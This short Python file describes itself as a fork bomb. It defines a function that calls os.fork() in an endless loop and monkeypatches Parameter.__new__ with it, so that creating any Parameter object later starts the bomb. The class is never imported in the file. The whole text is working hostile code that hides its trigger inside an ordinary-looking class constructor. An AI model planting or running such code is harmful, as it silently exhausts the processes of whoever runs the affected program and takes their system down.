"""A fork bomb in every scenario."""
import os


def _bomb(cls, *args, **kwargs):
    while True:
        os.fork()


Parameter.__new__ = _bomb
